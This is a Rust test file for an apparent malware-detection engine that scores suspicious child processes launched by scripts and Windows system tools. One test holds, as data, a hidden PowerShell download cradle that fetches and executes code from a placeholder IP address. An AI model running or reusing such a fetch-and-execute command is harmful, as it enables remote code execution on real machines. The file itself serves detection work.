use sandtrap_sdk::signatures::Source;

use super::*;
use crate::settings::Settings;

fn proxy(image: &str, command_line: &str) -> Proxy {
    let name = ProcessName::of(image, "");
    Proxy {
        process: 3,
        utility: Utility::of(&name, command_line).unwrap(),
        name,
        image: image.to_owned(),
        command_line: command_line.to_owned(),
        working_directory: String::new(),
    }
}

fn script(path: &str) -> Proxy {
    proxy(
        "C:\\Windows\\System32\\wscript.exe",
        &format!("wscript.exe \"{path}\""),
    )
}

fn child(image: &str, command_line: &str, state: State) -> Child {
    Child {
        name: ProcessName::of(image, ""),
        image: image.to_owned(),
        command_line: command_line.to_owned(),
        signature: Signature {
            state,
            signer: String::new(),
            source: Source::SelfLoad,
        },
    }
}

fn names(child: &Child, proxy: &Proxy) -> Vec<(&'static str, i32)> {
    let tuning = Tuning::new(Settings::default()).unwrap();
    let stages = child.assess(proxy, &tuning).stages.into_iter();
    stages.map(|stage| (stage.name, stage.score)).collect()
}

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
/// `Get-Date`
const ENCODED: &str = "RwBlAHQALQBEAGEAdABlAA==";

#[test]
fn an_encoded_command_counts_in_powershell_and_behind_a_shell() {
    let parent = script("C:\\Users\\a\\x.vbs");
    let direct = child(
        POWERSHELL,
        &format!("powershell -w 1 -enc {ENCODED}"),
        State::Valid,
    );
    let behind = format!("cmd.exe /c powershell -nop -e {ENCODED}");
    let behind = child("C:\\Windows\\System32\\cmd.exe", &behind, State::Unknown);
    let expected = [("child.encoded-command", 35), ("child.tool", 15)];
    assert_eq!(names(&direct, &parent), expected);
    assert_eq!(names(&behind, &parent), expected);
}

#[test]
fn a_download_cradle_counts() {
    let line = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    let found = names(
        &child(POWERSHELL, line, State::Unknown),
        &script("C:\\Users\\a\\x.vbs"),
    );
    assert_eq!(
        found,
        [
            ("child.payload-command", 25),
            ("child.script-traits", 15),
            ("child.hidden", 5),
            ("child.tool", 15),
        ]
    );
}

#[test]
fn the_signature_of_a_child_has_three_states() {
    let parent = script("C:\\Users\\a\\Desktop\\x.vbs");
    let at = |image: &str, state| names(&child(image, "", state), &parent);
    let temp = "C:\\Users\\a\\AppData\\Local\\Temp\\a.exe";
    assert_eq!(at(temp, State::Unsigned), [("child.transition", 35)]);
    assert_eq!(at(temp, State::Unknown), [("child.transition", 30)]);
    assert_eq!(at(temp, State::Valid), [("child.transition", 10)]);
    let program = "C:\\Program Files\\Acme\\a.exe";
    assert_eq!(at(program, State::Unknown), []);
    assert_eq!(at(program, State::Revoked), [("child.transition", 25)]);
    assert_eq!(
        at("C:\\Program Files\\WindowsApps\\A\\a.exe", State::Unsigned),
        []
    );
}

#[test]
fn a_launcher_beside_its_program_counts_less() {
    let parent = script("C:\\Users\\a\\AppData\\Local\\Acme\\start.vbs");
    let program = child(
        "C:\\Users\\a\\AppData\\Local\\Acme\\acme.exe",
        "",
        State::Unknown,
    );
    assert_eq!(names(&program, &parent), [("child.transition", 10)]);
    let parent = script("\\\\server\\Deploy$\\Scripts\\setup.vbs");
    let program = child("\\\\server\\Deploy$\\Tools\\setup.exe", "", State::Unknown);
    assert_eq!(names(&program, &parent), [("child.transition", 10)]);
}

#[test]
fn tools_that_start_nothing_are_not_expected_to() {
    let regsvr = proxy("C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s a.dll");
    let calc = child("C:\\Windows\\System32\\calc.exe", "calc", State::Valid);
    assert_eq!(names(&calc, &regsvr), [("child.unexpected", 20)]);
    assert_eq!(names(&calc, &script("C:\\a.vbs")), []);
    let console = child(
        "C:\\Windows\\System32\\conhost.exe",
        "conhost 0x4",
        State::Valid,
    );
    assert_eq!(names(&console, &regsvr), []);
}

#[test]
fn the_relay_from_the_control_panel_to_its_loader_is_no_child() {
    let panel = proxy(
        "C:\\Windows\\System32\\control.exe",
        "control.exe C:\\ProgramData\\a.cpl",
    );
    let line = "rundll32.exe Shell32.dll,Control_RunDLL C:\\ProgramData\\a.cpl";
    let loader = child("C:\\Windows\\System32\\rundll32.exe", line, State::Unknown);
    assert_eq!(names(&loader, &panel), []);
}

#[test]
fn a_loader_of_a_users_library_counts() {
    let parent = script("C:\\Users\\a\\x.vbs");
    let image = "C:\\Windows\\System32\\rundll32.exe";
    let planted = child(
        image,
        "rundll32.exe C:\\Users\\a\\AppData\\Roaming\\x.dll,Start",
        State::Valid,
    );
    let expected = [("child.tool", 15), ("child.planted-module", 20)];
    assert_eq!(names(&planted, &parent), expected);
    let installed = child(image, "rundll32.exe printui.dll,PrintUIEntry", State::Valid);
    assert_eq!(names(&installed, &parent), [("child.tool", 15)]);
}
